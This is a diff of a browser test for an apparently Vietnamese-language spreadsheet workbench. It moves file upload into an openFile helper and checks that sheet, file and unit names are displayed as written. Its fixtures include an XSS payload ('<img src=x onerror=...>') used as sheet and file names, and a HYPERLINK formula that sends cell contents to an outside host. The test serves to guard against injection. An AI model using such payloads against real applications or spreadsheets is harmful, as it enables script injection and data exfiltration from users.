@@ -5,9 +5,8 @@ import { launchBrowser } from "./support/launchBrowser";
 import { serveDist } from "./support/serveDist";
 import type { Served } from "./support/serveDist";
 import { watchTrust } from "./support/watchTrust";
-import { openWorkbench } from "./support/workbenchPage";
+import { openFile, openWorkbench } from "./support/workbenchPage";
 
-const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
 const SHEET = "<img src=x onerror=hacked=1>";
 const FILE = "<img src=x onerror=hacked=1>.xlsx";
 const SHOWN = '=HYPERLINK("https://khac.vn/?d="&A1,"Bấm vào đây")';
@@ -33,8 +32,7 @@ test("names of units, of the sheet and of the file are shown as they are written
   const pane = await openWorkbench(page, served.origin);
   const units = HOSTILE_TEXTS.map((text, index) => [index + 3, text, 8, 14, 18, 2, 5, 5]);
   const buffer = Buffer.from(workbook({ [SHEET]: [...board(), ...units] }));
-  await page.locator('input[type="file"]').setInputFiles({ name: FILE, mimeType: XLSX, buffer });
-  await page.locator(".file-name", { hasText: FILE }).waitFor();
+  await openFile(page, FILE, buffer);
   await pane
     .getByRole("radio", { name: /Cao Bằng năm 2020/ })
     .first()
